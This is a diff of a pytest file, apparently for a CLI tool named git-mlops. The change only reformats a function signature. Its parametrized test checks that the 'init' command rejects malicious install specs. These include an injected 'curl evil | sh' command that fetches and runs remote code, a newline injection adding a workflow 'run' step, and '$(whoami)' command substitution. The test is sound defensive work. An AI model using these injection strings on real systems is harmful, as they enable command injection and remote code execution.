@@ -67,8 +67,9 @@ def test_init_writes_the_install_spec_everywhere(tmp_path: Path, monkeypatch: py
 
 
 @pytest.mark.parametrize("bad", ['git-mlops"; curl evil | sh; "', "git-mlops\n- run: echo", "$(whoami)"])
-def test_init_refuses_an_install_spec_that_is_not_a_requirement(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-                                                                bad: str) -> None:
+def test_init_refuses_an_install_spec_that_is_not_a_requirement(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, bad: str
+) -> None:
     monkeypatch.chdir(tmp_path)
     result = CliRunner().invoke(cli, ["init", "demo", "--install-spec", bad])
     assert result.exit_code == 2
